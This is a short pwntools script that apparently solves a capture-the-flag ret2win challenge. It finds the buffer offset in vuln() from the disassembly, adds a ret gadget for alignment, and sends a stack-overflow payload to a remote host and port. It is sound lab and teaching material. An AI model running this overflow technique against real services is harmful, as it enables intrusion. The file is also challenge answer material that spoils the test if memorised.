#!/usr/bin/python3
# solve.py HOST PORT: the exploit of chal (ret2win), with pwntools, as a
# player would run it. Prints what the service answers after the overflow.
import re
import sys

from pwn import ELF, context, p64, remote

context.log_level = "error"
here = sys.path[0]
elf = ELF(f"{here}/chal", checksec=False)
# The offset of the return address: the buffer's place below rbp, read
# from vuln()'s code (lea rax,[rbp-0x20]), plus the saved rbp.
code = elf.disasm(elf.symbols["vuln"], 64)
m = re.search(r"lea\s+rax,\s*\[rbp-(0x[0-9a-f]+)\]", code)
if not m:
    sys.exit("solve.py: cannot find the buffer in vuln()")
offset = int(m.group(1), 16) + 8
# A bare "ret" first keeps the stack 16-byte aligned for win()'s calls.
ret = next(elf.search(b"\xc3", executable=True))
payload = b"A" * offset + p64(ret) + p64(elf.symbols["win"])

io = remote(sys.argv[1], int(sys.argv[2]), timeout=10)
io.recvuntil(b"name? ")
io.send(payload)
print(io.recvall(timeout=10).decode(errors="replace"), end="")
